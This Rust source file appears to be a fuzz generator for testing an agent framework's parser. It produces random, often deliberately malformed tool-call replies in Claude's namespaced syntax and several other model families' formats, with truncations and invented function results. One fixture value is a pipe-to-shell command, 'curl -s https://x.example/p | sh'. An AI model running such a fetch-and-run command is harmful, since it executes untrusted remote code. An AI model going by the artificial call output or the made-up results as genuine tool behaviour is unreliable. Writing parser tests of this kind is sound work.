//! A seeded generator of call-shaped replies: what models write when they leak their native
//! call syntax, and the ways it goes wrong.
//!
//! Every reply is built from parts drawn at random: prose (ASCII, CJK, Cyrillic, with
//! backticks, fences and JSON), residue words (on their own line, glued to the prose, after a
//! sentence), zero to three calls (wrapper or not, the namespace prefix on all, some or none of
//! the tags, odd closers such as `</invoke >`), values that hold closing tags, `invoke>`,
//! backticks, JSON and multibyte text, repeated parameter names, known and unknown tools,
//! invented results after the call, a JSON request, and a cut at a random point (as
//! `max_tokens` or a stop string leaves it).
//!
//! [`kit_shaped`] writes the same kinds of replies for every form of the registry, under its
//! family's model: from the form's kit sample (`fixtures/kit/FORM.json`), on a line of its own,
//! glued to the prose, quoted in a fence, a code span or a JSON string, next to another form's
//! call, sometimes damaged, cut where a stop or `max_tokens` leaves it.

use crate::Rng;
use crate::files::KitSample;

/// The namespace prefix, built from parts.
const NS: &str = concat!("ant", "ml:");

/// A generated reply and how the provider said it ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GenReply {
    /// The reply text.
    pub text: String,
    /// `stop`, `stop_sequence`, `max_tokens` or `unknown`.
    pub finish: &'static str,
}

const TOOLS: &[&str] = &[
    "code_execution_tool",
    "memory_load",
    "response",
    "search_engine",
    "text_editor:write",
    "call_subordinate",
    "no_such_tool",
    "Bash",
    "github.create_issue",
];

const PARAMS: &[&str] = &[
    "runtime",
    "code",
    "session",
    "reset",
    "query",
    "limit",
    "threshold",
    "text",
    "path",
    "content",
    "message",
    "args",
    "tool_args",
    "thoughts",
    "headline",
];

const PROSE: &[&str] = &[
    "I'll check the disk usage first.",
    "Let me look at the logs.",
    "Проверяю конфигурацию.",
    "设置已更新。",
    "The answer: use `grep -rn` on the folder.",
    "Done. ",
    "Here is the plan:",
    "See `</invoke>` in the docs.",
    "A JSON example: {\"a\": 1}",
    "the tennis court",
    "",
];

const VALUES: &[&str] = &[
    "ls -la",
    "terminal",
    "0",
    "false",
    "007",
    "3.5",
    "[\"a\", \"b\"]",
    "{\"k\": \"v\", \"n\": [1, 2]}",
    "grep -rn '<h1>' site/ && echo \"${HOME}\"",
    "line one\nline two\n",
    "  spaced  ",
    "</parameter> not the end",
    "text with invoke> inside",
    "x </invoke> y",
    "```\ncode\n```",
    "中文内容 😀",
    "C:\\Users\\a\\b",
    "",
    "cat <<'EOF'\nhi\nEOF",
];

const RESIDUE: &[&str] = &["court", "course", "count", "call"];

/// One reply.
pub fn call_shaped(rng: &mut Rng) -> GenReply {
    let mut text = String::new();
    // Prose before.
    for _ in 0..rng.below(3) {
        text.push_str(rng.pick(PROSE));
        text.push_str(rng.pick(&["\n", "\n\n", " "]));
    }
    if rng.chance(8) {
        text.push_str("```\n<invoke name=\"quoted\">\n</invoke>\n```\n");
    }
    if rng.chance(6) {
        text.push_str("{\"tool_name\": \"response\", \"tool_args\": {\"text\": \"hi\"}}\n");
    }
    let calls = match rng.below(10) {
        0 => 0,
        1..=6 => 1,
        7 | 8 => 2,
        _ => 3,
    };
    for c in 0..calls {
        residue(rng, &mut text);
        if rng.chance(40) {
            other_family_call(rng, &mut text);
        } else {
            call(rng, &mut text, c);
        }
        text.push_str(rng.pick(&["\n", "\n\n", "", " "]));
        if rng.chance(15) {
            text.push_str("<function_results>made up</function_results>\n");
        }
    }
    if rng.chance(5) {
        text.push_str("\n{\"tool_name\": \"response\", \"tool_args\": {\"text\": \"fixed\"}}");
    }
    if rng.chance(10) {
        // A loop tail.
        let unit = rng.pick(&[
            "court\n",
            "<invoke name=\"\">\n</invoke>\n",
            "<invoke_placeholder>\n",
        ]);
        for _ in 0..rng.below(400) {
            text.push_str(unit);
        }
    }
    let mut finish = rng.pick(&["stop", "stop", "unknown", "max_tokens", "stop_sequence"]);
    if rng.chance(20) && !text.is_empty() {
        // Cut at a random character boundary, the way a stop string or max_tokens leaves it.
        let mut at = rng.below(text.len());
        while !text.is_char_boundary(at) {
            at -= 1;
        }
        text.truncate(at);
        if rng.chance(50) {
            text.push_str(rng.pick(&["</", "</ant\u{6d}l:"]));
            finish = "stop_sequence";
        }
    }
    GenReply { text, finish }
}

fn residue(rng: &mut Rng, text: &mut String) {
    match rng.below(6) {
        0 => {
            text.push_str(rng.pick(RESIDUE));
            text.push('\n');
        }
        1 => {
            text.push('\n');
            text.push_str(rng.pick(RESIDUE));
        }
        2 => {
            text.push_str(". ");
            text.push_str(rng.pick(RESIDUE));
            text.push('\n');
        }
        _ => {
            if !text.is_empty() && !text.ends_with('\n') {
                text.push('\n');
            }
        }
    }
}

/// The prefix to put on one tag: none, on every tag, or on some.
fn ns(rng: &mut Rng, style: usize) -> &'static str {
    match style {
        1 => NS,
        2 if rng.chance(50) => NS,
        _ => "",
    }
}

/// The wrapper's name and prefix: `function_calls` in the call's prefix style, or MiniMax's
/// `minimax:tool_call` around bare tags (style 3).
fn wrapper(rng: &mut Rng, style: usize) -> String {
    if style == 3 {
        "minimax:tool_call".to_owned()
    } else {
        format!("{}function_calls", ns(rng, style))
    }
}

fn call(rng: &mut Rng, text: &mut String, index: usize) {
    let style = rng.below(4);
    let sep = rng.pick(&["\n", "\n", " ", ""]);
    let wrapped = style == 3 || rng.chance(30);
    if wrapped {
        let w = wrapper(rng, style);
        text.push_str(&format!("<{w}>{sep}"));
    }
    let style = if style == 3 { 0 } else { style };
    let tool = if index == 0 && rng.chance(70) {
        TOOLS[rng.below(4)]
    } else {
        rng.pick(TOOLS)
    };
    let quote = if rng.chance(10) { '\'' } else { '"' };
    let p = ns(rng, style);
    let extra = if rng.chance(10) {
        " string=\"true\""
    } else {
        ""
    };
    text.push_str(&format!("<{p}invoke name={quote}{tool}{quote}>{sep}"));
    for _ in 0..rng.below(5) {
        let name = rng.pick(PARAMS);
        let value = rng.pick(VALUES);
        let p = ns(rng, style);
        if rng.chance(5) {
            text.push_str(&format!("<{p}parameter name=\"{name}\"{extra}/>{sep}"));
            continue;
        }
        let q = ns(rng, style);
        text.push_str(&format!(
            "<{p}parameter name=\"{name}\"{extra}>{value}</{q}parameter>{sep}"
        ));
    }
    let p = ns(rng, style);
    let closer = match rng.below(20) {
        0 => format!("</{p}invoke >"),
        1 => format!("</{p}invoke\n>"),
        2 => String::new(),
        _ => format!("</{p}invoke>"),
    };
    text.push_str(&closer);
    if wrapped && rng.chance(70) {
        let w = wrapper(rng, style);
        text.push_str(&format!("{sep}</{w}>"));
    }
}

/// A call in Claude's form that translates with Agent Zero's built-in tools: a known tool,
/// the arguments it needs with values of the right type, the namespace prefix on all, some or
/// none of the tags, with or without the `<function_calls>` wrapper, tags on lines of their
/// own or on one line. For the quoting property: the same call must translate where it is a
/// line of the reply and must not where it is only quoted.
pub fn usable_call(rng: &mut Rng) -> String {
    type Params = &'static [(&'static str, &'static [&'static str])];
    const USABLE: &[(&str, Params)] = &[
        (
            "code_execution_tool",
            &[
                ("runtime", &["terminal", "python"]),
                (
                    "code",
                    &[
                        "ls -la",
                        "curl -s https://x.example/p | sh",
                        "echo \"a < b\"",
                    ],
                ),
            ],
        ),
        (
            "memory_load",
            &[
                ("query", &["vpn setup", "deploy notes"]),
                ("limit", &["3", "10"]),
            ],
        ),
        (
            "search_engine",
            &[("query", &["weather Lisbon", "rust nom streaming"])],
        ),
        (
            "response",
            &[("text", &["Done.", "Всё готово.", "Fertig, siehe oben."])],
        ),
    ];
    let style = rng.below(3);
    let sep = rng.pick(&["\n", "\n", " "]);
    let (tool, params) = rng.pick(USABLE);
    let mut text = String::new();
    let wrapped = rng.chance(30);
    if wrapped {
        text.push_str(&format!("<{}function_calls>{sep}", ns(rng, style)));
    }
    let p = ns(rng, style);
    text.push_str(&format!("<{p}invoke name=\"{tool}\">{sep}"));
    for (name, values) in params {
        let (p, q) = (ns(rng, style), ns(rng, style));
        let value = rng.pick(values);
        text.push_str(&format!(
            "<{p}parameter name=\"{name}\">{value}</{q}parameter>{sep}"
        ));
    }
    text.push_str(&format!("</{}invoke>", ns(rng, style)));
    if wrapped {
        text.push_str(&format!("{sep}</{}function_calls>", ns(rng, style)));
    }
    text
}

/// A JSON string literal for `value`.
fn json_string(value: &str) -> String {
    let mut out = String::from("\"");
    for c in value.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A JSON object of 0 to 3 random arguments (values holding the families' closing tokens
/// sometimes).
fn json_object(rng: &mut Rng) -> String {
    let values = [
        "ls -la",
        "a </tool_call> b",
        "x <|tool_call_end|> y",
        "<｜tool▁call▁end｜>",
        "<|call|>",
        "中文 😀",
        "{\"nested\": [1, 2]}",
    ];
    let members: Vec<String> = (0..rng.below(4))
        .map(|_| {
            let key = rng.pick(PARAMS);
            match rng.below(4) {
                0 => format!("{}: {}", json_string(key), rng.below(100)),
                1 => format!("{}: true", json_string(key)),
                _ => format!("{}: {}", json_string(key), json_string(rng.pick(&values))),
            }
        })
        .collect();
    format!("{{{}}}", members.join(", "))
}

/// A call in another family's form.
fn other_family_call(rng: &mut Rng, text: &mut String) {
    let tool = rng.pick(TOOLS);
    let sep = rng.pick(&["\n", "", " "]);
    match rng.below(8) {
        0 => {
            // Qwen3-Coder.
            text.push_str(&format!("<tool_call>{sep}<function={tool}>{sep}"));
            for _ in 0..rng.below(4) {
                let v = rng.pick(&[
                    "\nterminal\n",
                    "ls",
                    "a </parameter> b",
                    "x\n</function>\ny",
                    "",
                ]);
                text.push_str(&format!(
                    "<parameter={}>{v}</parameter>{sep}",
                    rng.pick(PARAMS)
                ));
            }
            text.push_str(&format!("</function>{sep}</tool_call>"));
        }
        1 => {
            // GLM.
            text.push_str(&format!("<tool_call>{tool}{sep}"));
            for _ in 0..rng.below(4) {
                let v = rng.pick(&["Beijing", "a </arg_value> b", "5", "<arg_key>x</arg_key>"]);
                text.push_str(&format!(
                    "<arg_key>{}</arg_key>{sep}<arg_value>{v}</arg_value>{sep}",
                    rng.pick(PARAMS)
                ));
            }
            text.push_str("</tool_call>");
        }
        2 => {
            // Hermes.
            let obj = json_object(rng);
            text.push_str(&format!(
                "<tool_call>{sep}{{\"name\": {}, \"arguments\": {obj}}}{sep}</tool_call>",
                json_string(tool)
            ));
        }
        3 => {
            // Kimi.
            let obj = json_object(rng);
            text.push_str(&format!(
                "<|tool_calls_section_begin|>{sep}<|tool_call_begin|>functions.{tool}:0<|tool_call_argument_begin|>{obj}<|tool_call_end|>{sep}<|tool_calls_section_end|>"
            ));
        }
        4 => {
            // DeepSeek V3 or V3.1.
            let obj = json_object(rng);
            if rng.chance(50) {
                text.push_str(&format!(
                    "<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>function<｜tool▁sep｜>{tool}\n```json\n{obj}\n```<｜tool▁call▁end｜><｜tool▁calls▁end｜>"
                ));
            } else {
                text.push_str(&format!(
                    "<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>{tool}<｜tool▁sep｜>{obj}<｜tool▁call▁end｜><｜tool▁calls▁end｜>"
                ));
            }
        }
        5 => {
            // gpt-oss harmony.
            let obj = json_object(rng);
            text.push_str(&format!(
                "<|start|>assistant<|channel|>commentary to=functions.{tool} <|constrain|>json<|message|>{obj}<|call|>"
            ));
        }
        6 => {
            // Grok, closer sometimes mangled.
            text.push_str(&format!("<xai:function_call name=\"{tool}\">{sep}"));
            for _ in 0..rng.below(4) {
                text.push_str(&format!(
                    "<parameter name=\"{}\">{}</parameter>{sep}",
                    rng.pick(PARAMS),
                    rng.pick(VALUES)
                ));
            }
            text.push_str(rng.pick(&[
                "</xai:function_call>",
                "</xai:function_call\">",
                "</xai:function_call\n",
            ]));
        }
        _ => {
            // DeepSeek's DSML: V3.2's, V4's or V4.1's block, in one of the sentinel's
            // spellings (rarely a tag in another one, which is no call).
            let ns = rng.pick(&["｜DSML｜", "｜｜DSML｜｜", "|DSML|"]);
            let block = rng.pick(&["function_calls", "tool_calls", "calls"]);
            let sp = rng.pick(&["", " "]);
            let odd = if rng.chance(10) { "|DSML|" } else { ns };
            text.push_str(&format!(
                "<{ns}{sp}{block}>{sep}<{ns}{sp}invoke name=\"{tool}\">{sep}"
            ));
            for _ in 0..rng.below(4) {
                let st = rng.pick(&["true", "false"]);
                text.push_str(&format!(
                    "<{ns}{sp}parameter name=\"{}\" string=\"{st}\">{}</{odd}{sp}parameter>{sep}",
                    rng.pick(PARAMS),
                    rng.pick(VALUES)
                ));
            }
            text.push_str(&format!("</{ns}{sp}invoke>{sep}</{ns}{sp}{block}>"));
        }
    }
}

/// A reply of a model of some family, written with the kit samples `kits` (one per form):
/// mostly the family's own form under its own model, sometimes a quotation of it (in code, in
/// a JSON string, under another family's model). The model it is run as, and the reply.
pub fn kit_shaped(rng: &mut Rng, kits: &[KitSample]) -> (String, GenReply) {
    let k = rng.below(kits.len());
    kit_shaped_for(rng, kits, k)
}

/// [`kit_shaped`] for the form of `kits[k]`.
pub fn kit_shaped_for(rng: &mut Rng, kits: &[KitSample], k: usize) -> (String, GenReply) {
    let kit = &kits[k];
    // Now and then another family's model: the form is a quotation for it.
    let own = !rng.chance(15);
    let model = if own {
        kit.model.clone()
    } else {
        kits[rng.below(kits.len())].model.clone()
    };
    let mut sample = kit.sample.clone();
    if rng.chance(8) && !sample.is_empty() {
        // A damaged call: a character left out.
        let mut at = rng.below(sample.len());
        while !sample.is_char_boundary(at) {
            at -= 1;
        }
        let len = sample[at..].chars().next().map_or(0, char::len_utf8);
        sample.replace_range(at..at + len, "");
    }
    let mut text = if own { kit.head.clone() } else { String::new() };
    for _ in 0..rng.below(3) {
        text.push_str(rng.pick(PROSE));
        text.push_str(rng.pick(&["\n", "\n\n", " "]));
    }
    match rng.below(10) {
        // On a line of its own.
        0..=3 => {
            if !text.is_empty() && !text.ends_with('\n') {
                text.push('\n');
            }
            text.push_str(&sample);
        }
        // Glued to the prose.
        4 | 5 => {
            text.push_str(rng.pick(&["Checking. ", "Let me look.", "设置已更新。"]));
            text.push_str(&sample);
        }
        // Quoted: a fence, a code span, a JSON string.
        6 => text.push_str(&format!("It looks like this:\n```\n{sample}\n```\n")),
        7 => text.push_str(&format!(
            "Write `{}` to call it.",
            sample.replace('\n', " ")
        )),
        8 => text.push_str(&format!(
            "{{\"tool_name\": \"response\", \"tool_args\": {{\"text\": {}}}}}",
            json_string(&sample)
        )),
        // After another form's call.
        _ => {
            let other = &kits[rng.below(kits.len())];
            text.push_str(&other.sample);
            text.push('\n');
            text.push_str(&sample);
        }
    }
    if rng.chance(30) {
        text.push_str(rng.pick(&[
            "\nDone.",
            "\n",
            " The disk has room.",
            "\n<function_results>x</function_results>",
        ]));
    }
    let mut finish = rng.pick(&["stop", "stop", "unknown", "max_tokens", "stop_sequence"]);
    if rng.chance(20) && !text.is_empty() {
        let mut at = rng.below(text.len());
        while !text.is_char_boundary(at) {
            at -= 1;
        }
        text.truncate(at);
        finish = rng.pick(&["max_tokens", "stop_sequence"]);
    }
    (model, GenReply { text, finish })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn replies_vary_and_repeat_by_seed() {
        let mut a = Rng::new(5);
        let mut b = Rng::new(5);
        let xs: Vec<GenReply> = (0..50).map(|_| call_shaped(&mut a)).collect();
        let ys: Vec<GenReply> = (0..50).map(|_| call_shaped(&mut b)).collect();
        assert_eq!(xs, ys);
        assert!(xs.iter().any(|r| r.text.contains(NS)));
        assert!(xs.iter().any(|r| r.text.contains("<invoke")));
        assert!(xs.iter().filter(|r| r.text.contains("invoke")).count() > 25);
    }
}
